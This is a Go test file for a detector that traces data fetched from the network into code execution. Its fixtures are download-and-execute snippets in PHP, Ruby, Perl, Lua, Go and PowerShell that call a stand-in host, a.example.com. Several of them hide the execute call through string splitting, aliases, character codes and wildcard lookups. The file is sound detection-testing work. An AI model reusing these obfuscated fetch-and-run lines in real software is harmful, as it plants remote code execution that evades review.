package chain_test

import (
	"testing"

	"github.com/skillctl/skillctl/engine/flow/chain"
)

// TestSpelledCalls: what is called by a text, a variable or another name is what it does.
func TestSpelledCalls(t *testing.T) {
	t.Parallel()
	const (
		php  = "<?php\n$c = file_get_contents('https://a.example.com/i');\n"
		ruby = "require 'open-uri'\nc = URI.open('https://a.example.com/i').read\n"
		ps   = "$c = (New-Object Net.WebClient).DownloadString('https://a.example.com/i')\n"
	)
	for name, c := range map[string]struct{ language, source, want string }{
		"variable functions":     {"php", "<?php\n$f = 'file_get'.'_contents';\n$c = $f('https://a.example.com/i');\n$r = 'sys'.'tem';\n$r($c);\n", "network -> run"},
		"a call by its name":     {"php", php + "call_user_func('sys'.'tem', $c);\n", "network -> run"},
		"a call for each":        {"php", php + "array_map('system', [$c]);\n", "network -> run"},
		"a table of functions":   {"php", php + "$t = ['run' => 'exec'];\n$t['run']($c);\n", "network -> run"},
		"a function that is not": {"php", php + "$f = 'strlen';\necho $f($c);\ncall_user_func('strtoupper', $c);\n", ""},
		"a name that is sent":    {"ruby", ruby + "Kernel.send('ev' + 'al', c)\n", "network -> evaluate"},
		"a joined name":          {"ruby", ruby + "m = %w[sys tem].join\nKernel.public_send(m, c)\n", "network -> run"},
		"a method object":        {"ruby", ruby + "r = method(:system)\nr.call(c)\n", "network -> run"},
		"a field that is read":   {"ruby", ruby + "puts c.public_send(:length)\n", ""},
		"a reference":            {"perl", "use LWP::Simple;\nmy $c = get('https://a.example.com/i');\nmy $f = \\&CORE::system;\n$f->($c);\n", "network -> run"},
		"a field of all":         {"lua", "local http = require('socket.http')\nlocal b = http.request('https://a.example.com/i')\n_G['os']['exec' .. 'ute'](b)\n", "network -> run"},
		"a function in Go":       {"go", "run := exec.Command\nr, _ := http.Get(\"https://a.example.com/i\")\nb, _ := io.ReadAll(r.Body)\nrun(\"sh\", \"-c\", string(b)).Run()\n", "network -> run"},
		"an alias":               {"powershell", "New-Alias go ('I'+'EX')\n" + ps + "go $c\n", "network -> evaluate"},
		"letters":                {"powershell", ps + "& ([char]73+[char]69+[char]88) $c\n", "network -> evaluate"},
		"a pattern":              {"powershell", ps + "& (gcm i*x) $c\n", "network -> evaluate"},
		"a part of a constant":   {"powershell", ps + "$c | & ($ShellId[1]+$ShellId[13]+'x')\n$n = -join('I','E','X')\n& $n $c\n", "network -> evaluate"},
		"a method by its name":   {"powershell", "$w = New-Object Net.WebClient\n$m = 'Download' + 'String'\n$c = $w.$m('https://a.example.com/i')\niex $c\n", "network -> evaluate"},
		"an alias of a tool":     {"powershell", "Set-Alias msb 'C:\\Tools\\msbuild.exe'\n" + ps + "msb /t:Build\nWrite-Host $c\n", ""},
	} {
		got := ""
		for _, one := range chain.Loose(chain.Text{File: "a", Source: []byte(c.source), Language: c.language}).Chains {
			got = one.Source.Kind + " -> " + one.Sink.Kind
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
